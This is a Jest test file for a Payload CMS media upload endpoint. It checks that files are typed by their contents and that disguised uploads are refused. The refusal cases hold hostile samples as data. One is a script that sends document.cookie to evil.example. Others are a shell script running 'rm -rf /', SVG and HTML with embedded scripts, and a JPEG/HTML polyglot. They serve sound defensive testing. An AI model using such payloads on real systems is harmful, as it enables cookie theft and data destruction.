import fs from 'node:fs'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import sharp from 'sharp'

import type { Media } from '../../src/payload-types'
import { animatedGif, filesUnder, onePagePdf, photo, uploadForm, type UploadFile } from '../helpers/mediaFiles'
import { startPayloadForSuite, type SuiteContext } from '../helpers/startPayloadForSuite'

let suite: SuiteContext
let adminToken: string

const admin = { email: 'types-admin@example.org', name: 'Types Admin', password: 'a long passphrase for file types 1' }

type ErrorBody = { errors: { data?: { errors?: { message: string; path: string }[] }; message: string }[] }

beforeAll(async () => {
  suite = await startPayloadForSuite('media-types')
  const registered = await suite.rest.post('/api/users/first-register', { body: admin })
  if (registered.status !== 200) throw new Error(`first-register failed (${registered.status}): ${await registered.text()}`)
  adminToken = await suite.rest.login(admin.email, admin.password)
})

afterAll(async () => {
  await suite?.close()
})

async function mediaCount(): Promise<number> {
  return (await suite.payload.count({ collection: 'media', overrideAccess: true })).totalDocs
}

async function upload(file: UploadFile): Promise<Response> {
  return suite.rest.post('/api/media', { body: uploadForm(file, { alt: `Upload of ${file.filename}` }), token: adminToken })
}

async function uploadAccepted(file: UploadFile): Promise<{ added: string[]; doc: Media }> {
  const before = filesUnder(suite.uploadsDir)
  const response = await upload(file)
  if (response.status !== 201) throw new Error(`upload of ${file.filename} failed (${response.status}): ${await response.text()}`)
  const { doc } = (await response.json()) as { doc: Media }
  return { added: filesUnder(suite.uploadsDir).filter((entry) => !before.includes(entry)), doc }
}

/** Uploads a file that must be refused: 400 naming the file, the reason in the message, nothing stored. */
async function expectRefused(file: UploadFile, reason: RegExp): Promise<void> {
  const filesBefore = filesUnder(suite.uploadsDir)
  const countBefore = await mediaCount()
  const response = await upload(file)
  expect(response.status).toBe(400)
  expect(response.headers.get('content-type')).toMatch(/application\/json/)
  const json = (await response.json()) as ErrorBody
  const [error] = json.errors[0].data?.errors ?? []
  expect(error).toEqual({ message: expect.stringContaining(file.filename), path: 'file' })
  expect(error.message).toMatch(reason)
  expect(filesUnder(suite.uploadsDir)).toEqual(filesBefore)
  expect(await mediaCount()).toBe(countBefore)
}

const text = (value: string) => new TextEncoder().encode(value)

describe('the type of an upload is decided by its bytes', () => {
  it.each([
    { filename: 'courtyard.jpg', format: 'jpeg' as const, mimeType: 'image/jpeg' },
    { filename: 'library.png', format: 'png' as const, mimeType: 'image/png' },
    { filename: 'lecture-hall.webp', format: 'webp' as const, mimeType: 'image/webp' },
    { filename: 'staircase.avif', format: 'avif' as const, mimeType: 'image/avif' },
    { filename: 'garden.gif', format: 'gif' as const, mimeType: 'image/gif' },
  ])('accepts a real $format image, stored with its image sizes', async ({ filename, format, mimeType }) => {
    const bytes = await photo({ height: 400, width: 600 }, format)
    const { added, doc } = await uploadAccepted({ bytes, filename, type: mimeType })
    expect(doc).toMatchObject({ filename, height: 400, mimeType, width: 600 })
    // Payload re-encodes the types that can be animated (GIF, WebP) frame by frame; the others are kept byte for byte.
    const stored = await sharp(path.join(suite.uploadsDir, filename)).metadata()
    expect({ format: stored.format, height: stored.height, width: stored.width }).toEqual({
      format: format === 'avif' ? 'heif' : format,
      height: 400,
      width: 600,
    })
    const sizeFiles = (Object.values(doc.sizes ?? {}) as { filename?: null | string }[])
      .map((size) => size.filename)
      .filter((name): name is string => typeof name === 'string')
    expect(sizeFiles.length).toBeGreaterThan(0)
    expect(added.sort()).toEqual([filename, ...sizeFiles].sort())
  }, 60_000)

  it('numbers a name whose stem another file has: gate.png after gate.jpg leaves the JPEG\'s image sizes alone', async () => {
    const first = await uploadAccepted({ bytes: await photo({ height: 400, width: 600 }, 'jpeg'), filename: 'gate.jpg', type: 'image/jpeg' })
    const thumbnailName = (first.doc.sizes as { thumbnail: { filename: string } }).thumbnail.filename
    const thumbnail = fs.readFileSync(path.join(suite.uploadsDir, thumbnailName))

    const second = await uploadAccepted({ bytes: await photo({ height: 300, width: 500 }, 'png'), filename: 'gate.png', type: 'image/png' })
    expect(second.doc.filename).toBe('gate-1.png')
    expect(second.added.every((name) => name.startsWith('gate-1'))).toBe(true)
    expect(fs.readFileSync(path.join(suite.uploadsDir, thumbnailName)).equals(thumbnail)).toBe(true)
  }, 60_000)

  it('accepts a small animated GIF and keeps its frames', async () => {
    const { doc } = await uploadAccepted({ bytes: animatedGif(12, { height: 30, width: 40 }), filename: 'blinking.gif', type: 'image/gif' })
    expect(doc).toMatchObject({ height: 30, mimeType: 'image/gif', width: 40 })
    const stored = await sharp(path.join(suite.uploadsDir, doc.filename as string)).metadata()
    expect(stored.pages).toBe(12)
  })

  it('accepts a PDF: stored as application/pdf, with no image sizes and no other file on disk', async () => {
    const bytes = onePagePdf('Annual report 2025')
    const { added, doc } = await uploadAccepted({ bytes, filename: 'annual-report.pdf', type: 'application/pdf' })
    expect(doc).toMatchObject({ filename: 'annual-report.pdf', mimeType: 'application/pdf' })
    expect(doc.width ?? null).toBeNull()
    expect(doc.height ?? null).toBeNull()
    for (const size of Object.values(doc.sizes ?? {}) as { filename?: null | string }[]) expect(size.filename ?? null).toBeNull()
    expect(added).toEqual(['annual-report.pdf'])
    expect(fs.readFileSync(path.join(suite.uploadsDir, 'annual-report.pdf')).equals(bytes)).toBe(true)
  })

  it('ignores the declared type: a PNG declared as a PDF is stored and described as a PNG', async () => {
    const bytes = await photo({ height: 200, width: 300 }, 'png')
    const { doc } = await uploadAccepted({ bytes, filename: 'declared-wrongly.png', type: 'application/pdf' })
    expect(doc).toMatchObject({ filename: 'declared-wrongly.png', height: 200, mimeType: 'image/png', width: 300 })
  })

  it('corrects an extension the bytes disagree with: a PNG named .jpg is stored as .png', async () => {
    const bytes = await photo({ height: 200, width: 300 }, 'png')
    const { added, doc } = await uploadAccepted({ bytes, filename: 'misnamed-scan.jpg', type: 'image/jpeg' })
    expect(doc).toMatchObject({ filename: 'misnamed-scan.png', mimeType: 'image/png' })
    expect(added).toContain('misnamed-scan.png')
    expect(added).not.toContain('misnamed-scan.jpg')
    expect(fs.readFileSync(path.join(suite.uploadsDir, 'misnamed-scan.png')).equals(bytes)).toBe(true)
  })

  it('gives a file without an extension the one its bytes call for', async () => {
    const { doc } = await uploadAccepted({ bytes: onePagePdf('No extension'), filename: 'minutes', type: 'application/octet-stream' })
    expect(doc).toMatchObject({ filename: 'minutes.pdf', mimeType: 'application/pdf' })
  })

  it.each([
    {
      bytes: text('<!DOCTYPE html><html><body><script>fetch("/api/users/me")</script></body></html>'),
      filename: 'photo.jpg',
      reason: /is HTML, which is not accepted/,
      type: 'image/jpeg',
    },
    {
      bytes: text('<script>document.location="https://evil.example/?c="+document.cookie</script>'),
      filename: 'portrait.png',
      reason: /is HTML, which is not accepted/,
      type: 'image/png',
    },
    {
      bytes: text('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>'),
      filename: 'logo.svg',
      reason: /is an SVG image .*not accepted/,
      type: 'image/svg+xml',
    },
    {
      bytes: text('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>'),
      filename: 'harmless-looking.png',
      reason: /is an SVG image .*not accepted/,
      type: 'image/png',
    },
    {
      bytes: text('#!/bin/sh\nrm -rf /\n'),
      filename: 'holiday.gif',
      reason: /is a script, which is not accepted/,
      type: 'image/gif',
    },
    {
      bytes: text('alert(document.cookie)\n'),
      filename: 'banner.webp',
      reason: /is text, which is not accepted/,
      type: 'image/webp',
    },
    {
      bytes: Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x00, 0x00, 0x08, 0x00, 0x00, 0x00, 0xff, 0xfe]),
      filename: 'archive.pdf',
      reason: /is not a file of an accepted type: upload a JPEG, PNG, WebP, AVIF, GIF or PDF file/,
      type: 'application/pdf',
    },
  ])('refuses $filename that is not what its name says ($reason)', async ({ bytes, filename, reason, type }) => {
    await expectRefused({ bytes, filename, type }, reason)
  })

  it('checks files that server code creates through the Local API too', async () => {
    const filesBefore = filesUnder(suite.uploadsDir)
    const countBefore = await mediaCount()
    const data = Buffer.from('<html><body>not a picture</body></html>')
    await expect(
      suite.payload.create({
        collection: 'media',
        data: { alt: 'Seeded by a script' },
        file: { data, mimetype: 'image/png', name: 'seeded.png', size: data.length },
      }),
    ).rejects.toMatchObject({ data: { errors: [{ message: '"seeded.png" is HTML, which is not accepted: upload a JPEG, PNG, WebP, AVIF, GIF or PDF file (its contents decide, not its name)', path: 'file' }] } })
    expect(filesUnder(suite.uploadsDir)).toEqual(filesBefore)
    expect(await mediaCount()).toBe(countBefore)
  })

  it('refuses a JPEG signature followed by HTML: the image does not decode', async () => {
    const bytes = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.from('<html><script>alert(1)</script></html>')])
    await expectRefused({ bytes, filename: 'polyglot.jpg', type: 'image/jpeg' }, /is not a readable JPEG image/)
  })

  it('refuses a truncated PDF', async () => {
    const whole = onePagePdf('Cut short')
    await expectRefused(
      { bytes: whole.subarray(0, whole.length - 40), filename: 'cut-short.pdf', type: 'application/pdf' },
      /is not a complete PDF/,
    )
  })

  it('checks a replacement file the same way: HTML sent as a new file for an image is refused and the image kept', async () => {
    const bytes = await photo({ height: 200, width: 300 }, 'jpeg')
    const { doc } = await uploadAccepted({ bytes, filename: 'to-be-replaced.jpg', type: 'image/jpeg' })
    const filesBefore = filesUnder(suite.uploadsDir)
    const response = await suite.rest.patch(`/api/media/${doc.id}`, {
      body: uploadForm({ bytes: text('<html><script>alert(1)</script></html>'), filename: 'to-be-replaced.jpg', type: 'image/jpeg' }, {}),
      token: adminToken,
    })
    expect(response.status).toBe(400)
    expect(JSON.stringify(await response.json())).toMatch(/is HTML, which is not accepted/)
    expect(filesUnder(suite.uploadsDir)).toEqual(filesBefore)
    const stored = await suite.payload.findByID({ collection: 'media', id: doc.id, overrideAccess: true })
    expect(stored).toMatchObject({ filename: 'to-be-replaced.jpg', mimeType: 'image/jpeg' })
    expect(fs.readFileSync(path.join(suite.uploadsDir, 'to-be-replaced.jpg')).equals(bytes)).toBe(true)
  })
})
